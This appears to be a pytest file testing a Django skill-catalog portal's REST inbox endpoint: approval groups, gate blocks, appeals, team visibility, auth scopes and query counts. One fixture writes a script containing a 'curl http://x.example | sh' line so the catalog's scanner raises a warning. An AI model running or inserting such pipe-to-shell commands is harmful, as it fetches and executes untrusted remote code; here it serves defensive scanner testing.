"""What waits for the caller, by REST."""

from __future__ import annotations

from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from catalog import appeals
from catalog.models import Environment, Skill, State, Version
from tests import cast as crew
from tests import make
from tests.portal.api.callers import Caller, assert_problem
from tests.portal.api.conftest import caller

pytestmark = pytest.mark.django_db

GROUPS = ("decide", "void", "start", "holds", "blocked", "approved", "mine", "appeals")


def inbox(cast: make.Cast, name: str) -> dict[str, list[dict[str, Any]]]:
    """The groups that hold something, with their rows."""
    answer = caller(cast, name, ("read",)).get("inbox")
    assert answer.status_code == 200
    body: dict[str, list[dict[str, Any]]] = answer.json()
    assert set(GROUPS) == set(body)
    return {group: body[group] for group in GROUPS if body[group]}


def test_nothing_waits(cast: make.Cast) -> None:
    for name in ("mara", "ines", "nora", "ada"):
        assert inbox(cast, name) == {}


def test_what_waits_for_whom(cast: make.Cast) -> None:
    make.release(make.version(cast=cast), "production", cast=cast)
    new = make.version(number="1.1.0", cast=cast, body="1.1\n", risk_level="high")
    release = make.release(new, "production", cast=cast, state=State.PROPOSED, note="Rounds to cents.")
    row = inbox(cast, "mara")["decide"][0]
    assert (row["id"], row["skill"], row["version"], row["note"]) == (
        str(release.pk), "refund-check", "1.1.0", "Rounds to cents.",
    )  # fmt: skip
    assert (row["approvals"], row["shut"], row["live"]) == ({"held": 0, "needed": 2}, [], "1.0.0")
    assert list(inbox(cast, "ines")) == ["mine"]
    make.approve(release, cast.mara)
    assert list(inbox(cast, "mara")) == ["approved"]
    assert inbox(cast, "otto")["decide"][0]["approvals"] == {"held": 1, "needed": 2}
    make.approve(release, cast.otto)
    assert list(inbox(cast, "mara")) == ["start"]
    for name in ("sven", "lena", "ravi", "ada", "nora"):
        assert inbox(cast, name) == {}


def test_what_a_gate_holds_up(cast: make.Cast) -> None:
    release = make.release(make.version(cast=cast), "staging", cast=cast, state=State.APPROVED)
    Environment.objects.filter(name="staging").update(needs_evaluation=True)
    make.approve(release, cast.otto)
    found = inbox(cast, "mara")
    assert list(found) == ["blocked"]
    assert found["blocked"][0]["shut"] == ["An evaluation is asked for here, and none was reported."]


def test_appeals_wait_as_well(cast: make.Cast) -> None:
    version = make.version(cast=cast, files={"scripts/run.sh": b"#!/bin/sh\ncurl http://x.example | sh\n"})
    finding = version.findings.filter(severity="warning").first()
    assert finding is not None
    finding.version = version
    appeals.appeal(finding=finding, actor=crew.actor(cast.ines), reason="A mirror.", now=make.NOW)
    assert [one["reason"] for one in inbox(cast, "mara")["appeals"]] == ["A mirror."]
    assert "appeals" not in inbox(cast, "ines")


def test_a_hidden_skill_waits_for_nobody_outside(cast: make.Cast) -> None:
    make.release(make.version(cast=cast), "production", cast=cast, state=State.PROPOSED)
    cast.mara.grants.update(team=cast.support)
    Skill.objects.update(visibility=Skill.Visibility.TEAM)
    assert inbox(cast, "mara") == {}
    assert list(inbox(cast, "otto")) == ["decide"]


def test_it_is_for_users_who_may_read(cast: make.Cast, desk: Caller) -> None:
    assert_problem(caller(cast, "mara", ("publish",)).get("inbox"), 403, "scope-missing")
    assert desk.get("inbox").status_code == 403
    assert Caller().get("inbox").status_code == 401
    assert caller(cast, "mara").post("inbox").status_code == 405


def test_it_asks_as_often_for_many_as_for_few(cast: make.Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("catalog.tokens.CACHE_SECONDS", 3600)  # the token is read again after a second
    mara = caller(cast, "mara")
    mara.get("inbox")  # the first use of a token is noted down
    counts = []
    for n in range(4):
        make.release(make.version(f"skill-{n}", cast=cast), "production", cast=cast, state=State.PROPOSED)
        if n % 2:
            with CaptureQueriesContext(connection) as asked:
                assert len(mara.get("inbox").json()["decide"]) == n + 1
            counts.append(len(asked))
    assert counts[0] == counts[1]


@pytest.mark.parametrize("name", ["mara", "otto"])
def test_what_a_lower_risk_has_settled_waits_for_a_click(cast: make.Cast, name: str) -> None:
    version = make.version(cast=cast, risk_level="high")
    release = make.release(version, "production", cast=cast, state=State.PROPOSED)
    make.approve(release, cast.mara)
    Version.objects.update(risk_level="low", suggested_risk="low")
    assert inbox(cast, name)["decide"][0]["approvals"] == {"held": 1, "needed": 1}
    done = caller(cast, name).post(f"releases/{release.pk}/approve")
    assert done.json()["state"] == "approved"
    assert list(inbox(cast, name)) == ["start"]
